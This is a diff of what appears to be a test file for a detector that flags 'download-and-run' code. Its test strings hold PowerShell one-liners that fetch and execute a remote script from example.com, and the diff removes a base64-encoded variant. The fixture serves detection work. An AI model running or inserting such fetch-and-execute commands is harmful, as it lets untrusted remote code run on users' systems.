@@ -50,8 +50,6 @@ describe('download-and-run', () => {
                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
         os.system("powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://example.com/install.ps1'))\"")
                                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
-        os.system("powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQAuAGMAbwBtAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA==")
-                                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
       `;
     });
 
